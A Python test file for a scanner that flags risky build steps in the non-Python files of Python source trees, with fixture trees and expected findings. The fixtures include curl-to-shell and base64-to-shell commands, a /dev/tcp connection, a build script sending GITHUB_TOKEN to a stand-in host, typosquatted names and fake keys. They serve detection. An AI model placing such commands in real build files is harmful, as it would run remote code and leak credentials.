"""Small source trees and exactly the facts that the scan of what is not Python must give of each: trees.py HWB. TAP.

Nothing of them is ever run. Hosts are *.invalid or 127.0.0.1; keys and tokens are made up.
A row: name, files, facts as "id zone path:line" (a count behind it when a line gives it twice), findings of warning and above."""
import collections
import json
import subprocess
import sys
import tempfile

import snapshot

KEY = "-----BEGIN %s-----\n" % "RSA PRIVATE KEY" + "\n".join(["MIIEpAIBAAKCAQEA" * 4] * 4) + "\n-----END %s-----\n" % "RSA PRIVATE KEY"


def pyproject(backend, *requires, more=""):
    items = ", ".join('"%s"' % item for item in requires or [backend.split(".")[0].replace("_", "-") + "==1.0"])
    return '[build-system]\nbuild-backend = "%s"\nrequires = [%s]\n%s' % (backend, items, more)


MESON = {"pyproject.toml": pyproject("mesonpy", "meson-python==0.17.1")}
MATURIN = {"pyproject.toml": pyproject("maturin", "maturin==1.7.4")}
CMAKE = {"pyproject.toml": pyproject("scikit_build_core.build", "scikit-build-core==0.10.7")}
FLIT = pyproject("flit_core.buildapi", "flit_core==3.9.0")
CARGO = '[package]\nname = "x"\nversion = "0.1.0"\n'

TREES = [
    ("an empty project", {"pyproject.toml": FLIT}, [], []),
    # Rust
    ("build.rs that runs and downloads", {**MATURIN, "Cargo.toml": CARGO, "build.rs": "use std::process::Command;\nfn main() {\n    let s = std::net::TcpStream::connect(\"127.0.0.1:9\");\n}\n"},
     ["rust.build-rs build build.rs:0", "rust.command build build.rs:1", "rust.net build build.rs:3"], ["warning SRC-NET"]),
    ("the same words in comments and strings of Rust", {**MATURIN, "Cargo.toml": CARGO, "build.rs": "// Command TcpStream\n/* reqwest /* ureq */ Command */\nfn main() { let s = \"Command\"; let r = r#\"TcpStream \"quoted\" \"#; let c = '\"'; let t = \"x\"; }\n"},
     ["rust.build-rs build build.rs:0"], []),
    ("a token that build.rs sends away", {**MATURIN, "Cargo.toml": CARGO, "build.rs": "fn main() {\n let t = std::env::var(\"GITHUB_TOKEN\");\n ureq::post(\"https://x.invalid\");\n}\n"},
     ["rust.build-rs build build.rs:0", "rust.env-secret build build.rs:2", "rust.net build build.rs:3"], ["error SRC-CRED-NET", "warning SRC-CRED", "warning SRC-NET"]),
    ("build.rs that runs what it fetches", {**MATURIN, "Cargo.toml": CARGO, "build.rs": "fn main() {\n std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl https://x.invalid | sh\");\n}\n"},
     ["rust.build-rs build build.rs:0", "rust.command build build.rs:2", "build.shell-fetch build build.rs:1"], ["error SRC-SHELL-FETCH"]),
    ("build.rs without a backend that knows cargo", {"pyproject.toml": FLIT, "Cargo.toml": CARGO, "build.rs": "use std::process::Command;\n"},
     ["rust.build-rs rest build.rs:0", "rust.command rest build.rs:1"], []),
    ("a macro crate runs in the compiler", {**MATURIN, "Cargo.toml": CARGO, "m/Cargo.toml": CARGO + "[lib]\nproc-macro = true\n", "m/src/lib.rs": "use std::net::UdpSocket;\n"},
     ["cargo.proc-macro build m/Cargo.toml:5", "rust.net build m/src/lib.rs:1"], ["warning SRC-NET"]),
    ("a build script of another name", {**MATURIN, "Cargo.toml": CARGO + 'build = "a/b.rs"\n', "a/b.rs": "fn main() { reqwest::get(\"x\"); }\n"},
     ["cargo.build-script build Cargo.toml:4", "rust.net build a/b.rs:1"], ["warning SRC-NET"]),
    ("crates from repositories", {**MATURIN, "Cargo.toml": CARGO + '[dependencies]\na = { git = "https://x.invalid/a" }\nb = { git = "https://x.invalid/b", rev = "%s" }\nc = { version = "1", registry = "mine" }\n' % ("0" * 40)},
     ["cargo.git build Cargo.toml:5", "cargo.git-pinned build Cargo.toml:6", "cargo.registry build Cargo.toml:7"], ["warning SRC-FETCH"]),
    ("a crate among the tests that is built all the same", {**MATURIN, "Cargo.toml": CARGO + '[dependencies]\na = { path = "tests/a" }\n', "tests/a/Cargo.toml": CARGO, "tests/a/build.rs": "fn main() { ureq::get(\"\"); }\n", "tests/b/Cargo.toml": CARGO, "tests/b/build.rs": "fn main() {}\n"},
     ["rust.build-rs build tests/a/build.rs:0", "rust.net build tests/a/build.rs:1", "rust.build-rs rest tests/b/build.rs:0"], ["warning SRC-NET"]),
    ("cargo's compiler is replaced", {**MATURIN, "Cargo.toml": CARGO, ".cargo/config.toml": '[build]\nrustc-wrapper = "./x.sh"\n'},
     ["config.cargo-program build .cargo/config.toml:2"], ["warning SRC-TOOL-CONFIG"]),
    # Meson
    ("meson runs programs", {**MESON, "meson.build": "project('x')\nrun_command('python', 'a.py')\nfind_program('cython')\ncustom_target('y', command: ['gcc'])\n"},
     ["meson.run-command build meson.build:2", "meson.find-program build meson.build:3", "meson.custom-target build meson.build:4"], []),
    ("the same in comments and strings of Meson", {**MESON, "meson.build": "# run_command('x')\ns = 'run_command(1)'\nt = '''\nrun_command('x')\n'''\n"}, [], []),
    ("meson downloads", {**MESON, "meson.build": "run_command('curl', 'https://x.invalid')\nrun_command('sh', '-c', 'curl https://x.invalid | sh')\n"},
     ["meson.fetch build meson.build:1", "meson.run-command build meson.build:2", "build.shell-fetch build meson.build:2"], ["error SRC-SHELL-FETCH", "warning SRC-NET"]),
    ("folders that meson enters, and one that it does not", {**MESON, "meson.build": "subdir('a')\n", "a/meson.build": "run_command('x')\n", "b/meson.build": "run_command('x')\n"},
     ["meson.run-command build a/meson.build:1", "meson.run-command rest b/meson.build:1"], []),
    ("a wrap without a digest", {**MESON, "meson.build": "subproject('z')\n", "subprojects/z.wrap": "[wrap-file]\nsource_url = https://x.invalid/z.tar\n"},
     ["meson.subproject build meson.build:1", "meson.wrap build subprojects/z.wrap:2"], ["warning SRC-FETCH"]),
    ("a wrap with a digest", {**MESON, "meson.build": "subproject('z')\n", "subprojects/z.wrap": "[wrap-file]\nsource_url = https://x.invalid/z.tar\nsource_hash = %s\n" % ("0" * 64)},
     ["meson.subproject build meson.build:1", "meson.wrap-pinned build subprojects/z.wrap:2"], []),
    ("meson.build is nothing to flit", {"pyproject.toml": FLIT, "meson.build": "run_command('curl')\n"}, ["meson.fetch rest meson.build:1"], []),
    # CMake
    ("cmake runs and fetches", {**CMAKE, "CMakeLists.txt": "execute_process(COMMAND git describe)\nfile(DOWNLOAD https://x.invalid/a a)\nFetchContent_Declare(z GIT_REPOSITORY https://x.invalid/z GIT_TAG main)\n"},
     ["cmake.execute-process build CMakeLists.txt:1", "cmake.download build CMakeLists.txt:2", "cmake.fetch build CMakeLists.txt:3"], ["warning SRC-NET", "warning SRC-FETCH"]),
    ("the same in comments and strings of CMake", {**CMAKE, "CMakeLists.txt": "# execute_process(x)\n#[[ file(DOWNLOAD\n]]\nset(a \"execute_process(COMMAND x)\")\nset(b [=[ FetchContent_Declare(x) ]=])\n"}, [], []),
    ("cmake fetches by digest and commit", {**CMAKE, "CMakeLists.txt": "FetchContent_Declare(z URL https://x.invalid/z URL_HASH SHA256=%s)\nEXTERNALPROJECT_ADD(y GIT_REPOSITORY https://x.invalid/y GIT_TAG %s)\nfile(DOWNLOAD https://x.invalid/a a EXPECTED_HASH SHA256=00)\n" % ("0" * 64, "0" * 40)},
     ["cmake.fetch-pinned build CMakeLists.txt:1", "cmake.fetch-pinned build CMakeLists.txt:2", "cmake.download-pinned build CMakeLists.txt:3"], []),
    ("cmake includes", {**CMAKE, "CMakeLists.txt": "add_subdirectory(a)\ninclude(cmake/b.cmake)\nfind_package(C)\n", "a/CMakeLists.txt": "exec_program(x)\n", "cmake/b.cmake": "exec_program(x)\n", "cmake/FindC.cmake": "exec_program(x)\n", "cmake/d.cmake": "exec_program(x)\n"},
     ["cmake.execute-process build a/CMakeLists.txt:1", "cmake.execute-process build cmake/b.cmake:1", "cmake.execute-process build cmake/FindC.cmake:1", "cmake.execute-process rest cmake/d.cmake:1"], []),
    ("cmake called by setup.py", {"setup.py": "subprocess.check_call(['cmake', '.'])\n", "CMakeLists.txt": "execute_process(COMMAND sh -c \"wget https://x.invalid -O- | sh\")\n"},
     ["cmake.execute-process build CMakeLists.txt:1", "build.shell-fetch build CMakeLists.txt:1"], ["error SRC-SHELL-FETCH"]),
    # scripts
    ("a script that setup.py names", {"setup.py": "os.system('sh scripts/get.sh')\n", "scripts/get.sh": "curl https://x.invalid/a | sh\n"},
     ["sh.fetch build scripts/get.sh:1", "sh.fetch-run build scripts/get.sh:1"], ["error SRC-SHELL-FETCH", "warning SRC-NET"]),
    ("a script that nobody names", {"setup.py": "", "get.sh": "curl https://x.invalid/a | sh\n"}, ["sh.fetch rest get.sh:1", "sh.fetch-run rest get.sh:1"], []),
    ("words of a script that are no commands", {"setup.py": "'./configure'\n", "configure": "# curl x | sh\necho curl wget\nfor p in curl wget; do :; done\ncommand -v curl\necho \"curl https://x.invalid | sh\"\ncat <<EOF\ncurl x | sh\nEOF\nCURL=curl\n"}, [], []),
    ("a script inside of strings", {"setup.py": "'./configure'\n", "configure": "sh -c \"curl https://x.invalid | bash\"\nx=\"$(wget -qO- https://x.invalid)\"\n"},
     ["sh.fetch build configure:1", "sh.fetch-run build configure:1 2", "sh.fetch build configure:2"], ["error SRC-SHELL-FETCH", "warning SRC-NET"]),
    ("decoded, evaluated and connected", {"setup.py": "'./configure'\n", "configure": "echo eA== | base64 -d | sh\neval $(x)\nexec 3<>/dev/tcp/127.0.0.1/9\n"},
     ["sh.decode-run build configure:1", "sh.eval build configure:2", "sh.dev-tcp build configure:3"], ["error SRC-REVERSE-SHELL", "error SRC-DECODE-EXEC", "warning SRC-NET"]),
    ("a Makefile that setup.py runs", {"setup.py": "call(['make'])\n", "Makefile": "X = don't\nall:\n\t@wget https://x.invalid # it's\n\tpip install x\nY = $(shell nc 127.0.0.1 9)\n"},
     ["sh.fetch build Makefile:3", "sh.install build Makefile:4", "sh.connect build Makefile:5"], ["warning SRC-NET"]),
    ("a script that a script names", {"setup.py": "'a.sh'\n", "a.sh": ". ./lib/b.sh\n", "lib/b.sh": "nc 127.0.0.1 9\n"}, ["sh.connect build lib/b.sh:1"], ["warning SRC-NET"]),
    # pyproject.toml and settings
    ("requirements by URL", {"pyproject.toml": pyproject("flit_core.buildapi", "a @ http://x.invalid/a.whl", "b @ git+https://x.invalid/b@%s" % ("0" * 40), "c @ https://x.invalid/c.whl#sha256=%s" % ("0" * 64), "d @ git+https://x.invalid/d@main")},
     ["req.url-open build pyproject.toml:3 2", "req.url build pyproject.toml:3 2"], ["error SRC-REQUIRE-URL"]),
    ("requirements without a version", {"pyproject.toml": pyproject("flit_core.buildapi", "flit_core", "wheel>=0.40")}, ["req.unpinned build pyproject.toml:3 2"], []),
    ("a name with a slip", {"pyproject.toml": pyproject("flit_core.buildapi", "setuptoools==1.0", "nunpy==1.0", "wheel==1.0", "six==1.0", "reqeusts==1.0", more='[project]\nname = "x"\nversion = "1"\ndependencies = ["scikitlearn"]\n')},
     ["req.typosquat build pyproject.toml:3 3", "req.typosquat import pyproject.toml:7"], ["warning SRC-TYPOSQUAT"]),
    ("odd backends", {"pyproject.toml": pyproject("mine.api", "mine==1.0")}, ["backend.unknown build pyproject.toml:2"], []),
    ("a backend in a hidden folder", {"pyproject.toml": pyproject("mine", "wheel==1.0", more='backend-path = ["tests/.b"]\n'), "tests/.b/mine.py": ""}, ["backend.path build pyproject.toml:4"], ["warning SRC-BACKEND"]),
    ("hooks and indexes", {"pyproject.toml": FLIT + '[tool.hatch.build.hooks.custom]\npath = "x.py"\n[[tool.uv.index]]\nurl = "https://x.invalid"\n', "pip.conf": "[global]\nextra-index-url = https://x.invalid\n", ".npmrc": "registry=https://x.invalid\n"},
     ["hook.build build pyproject.toml:4", "config.index build pyproject.toml:6", "config.index import pip.conf:0", "config.index rest .npmrc:0"], []),
    ("pyproject.toml that is none", {"pyproject.toml": "[["}, ["files.pyproject build pyproject.toml:0"], ["error SRC-UNPARSED"]),
    ("programs that fetch", {"pyproject.toml": pyproject("mesonpy", "meson-python==1.0", "maturin==1.0", "scikit-build-core==1.0"), "Cargo.toml": CARGO, "build.rs": "fn main() { Command::new(\"curl\"); }\n", "meson.build": "c = find_program('wget')\n", "CMakeLists.txt": "execute_process(COMMAND /usr/bin/curl https://x.invalid)\n"},
     ["rust.build-rs build build.rs:0", "rust.fetch build build.rs:1", "meson.fetch build meson.build:1", "cmake.download build CMakeLists.txt:1"], ["warning SRC-NET"] * 3),
    ("setup.cfg", {"setup.cfg": "[options]\nsetup_requires = x\ndependency_links =\n  https://x.invalid\ncmdclass =\n  build = x.Y\n[easy_install]\nindex_url = https://x.invalid\n", "x/setup.cfg": "[options]\nsetup_requires = x\n"},
     ["cfg.setup-requires build setup.cfg:2", "cfg.dependency-links build setup.cfg:3", "cfg.cmdclass build setup.cfg:5", "config.index build setup.cfg:8"], ["warning SRC-DEPENDENCY-LINKS"]),
    ("programs that cargo's settings name", {**MATURIN, "Cargo.toml": CARGO, ".cargo/config.toml": '[source.crates-io]\nreplace-with = "x"\n[target.x86_64-unknown-linux-gnu]\nrunner = "./x"\n'},
     ["config.index build .cargo/config.toml:1", "config.cargo-program build .cargo/config.toml:4"], ["warning SRC-TOOL-CONFIG"]),
    # what lies in the tree
    ("binaries", {"pyproject.toml": FLIT, "x/a": b"\x7fELF\2\1\1" + bytes(60), "tool": b"\x7fELF\2\1\1" + bytes(60), "x/b.wasm": b"\0asm\1\0\0\0", "x/c.pyc": b"\xa7\r\r\n" + bytes(20), "tests/t": b"\x7fELF\2\1\1" + bytes(60)},
     ["file.elf import x/a:0", "file.elf build tool:0", "file.wasm import x/b.wasm:0", "file.pyc import x/c.pyc:0", "file.elf rest tests/t:0"], ["warning SRC-BINARY"]),
    ("archives", {"pyproject.toml": FLIT, "x/a.whl": b"PK\3\4" + bytes(30), "x/b.zip": b"PK\3\4" + bytes(30), "x/c.gz": b"\x1f\x8b\x08" + bytes(20), "x/d": bytes(257) + b"ustar\0" + bytes(300)},
     ["file.package import x/a.whl:0", "file.archive import x/b.zip:0", "file.archive import x/c.gz:0", "file.archive import x/d:0"], []),
    ("private keys", {"pyproject.toml": FLIT, "x/key.pem": KEY, "tests/a.pem": KEY, "tests/b.pem": KEY, "README": "-----BEGIN RSA PRIVATE KEY-----\n...\n-----END RSA PRIVATE KEY-----\n"},
     ["file.private-key import x/key.pem:1", "file.private-key rest tests/a.pem:1", "file.more-keys rest tests/b.pem:1"], ["error SRC-CREDENTIALS"]),
    ("files of credentials", {"pyproject.toml": FLIT, ".env": "A=1\n# X_TOKEN=abcdefgh1\nX_TOKEN=abcdefgh1\nDB_PASSWORD=${P}\n", ".env.example": "X_TOKEN=abcdefgh1\n", ".pypirc": "[pypi]\npassword = pw-0123456789\n", ".netrc": "machine x.invalid login u password abcd12345\n", "c/secrets.yaml": "api_key: \"qwertyuiop\"\nother: qwertyuiop\n"},
     ["file.credentials import .env:3", "file.credentials rest .env.example:1", "file.credentials import .pypirc:2", "file.credentials import .netrc:1", "file.credentials import c/secrets.yaml:1"], ["warning SRC-CREDENTIALS"] * 4),
    ("names", {"pyproject.toml": FLIT, "x/a\u202egpj.py": "", "x/B.py": "", "x/b.py": "", "x/\u00e9": "", "x/e\u0301": "", "y.egg-link": "/x\n"},
     ["name.invisible import x/a\u202egpj.py:0", "name.same import x/b.py:0", "name.same import x/\u00e9:0", "file.egg-link import y.egg-link:0"], ["error SRC-NAME", "warning SRC-EGG-LINK", "warning SRC-NAME", "warning SRC-NAME"]),
]


def answer(program, path):
    with open(path, "rb") as tree:
        run = subprocess.run([program, "debug", "scan-files"], stdin=tree, stdout=subprocess.PIPE, text=True, encoding="utf-8", check=True)
    return [json.loads(line) for line in run.stdout.split("\n") if line]


def main():
    failed = 0
    with tempfile.TemporaryDirectory() as top:
        for number, (name, files, facts, findings) in enumerate(TREES, 1):
            path = top + "/tree"
            snapshot.write(path, {key: value if isinstance(value, bytes) else value.encode() for key, value in files.items()})
            rows = answer(sys.argv[1], path)
            got = collections.Counter("%s %s %s:%d" % (row["id"], row["zone"], row["path"], row["line"]) for row in rows if row["kind"] == "fact" and row["id"] != "req.unpinned" or row["kind"] == "fact" and "unpinned" in str(facts))
            want = collections.Counter()
            for fact in facts:
                first, _, count = fact.rpartition(" ")
                want[first if count.isdigit() else fact] += int(count) if count.isdigit() else 1
            said = sorted("%s %s" % (row["severity"], row["id"]) for row in rows if row["kind"] == "finding" and row["severity"] != "info")
            shown = [row for row in rows if row["kind"] == "fact" and any(secret in row["evidence"] for secret in ("MIIE", "abcdefgh1", "pw-0123456789", "abcd12345", "qwertyuiop"))]
            good = got == want and said == sorted(findings) and not shown
            failed += not good
            if not good:
                print("# more: %s\n# missing: %s\n# findings: %s\n# secrets shown: %s" % (dict(got - want), dict(want - got), said, shown))
            print("%s %d - %s" % ("ok" if good else "not ok", number, name))
    print("1..%d" % len(TREES))
    return bool(failed)


if __name__ == "__main__":
    sys.exit(main())
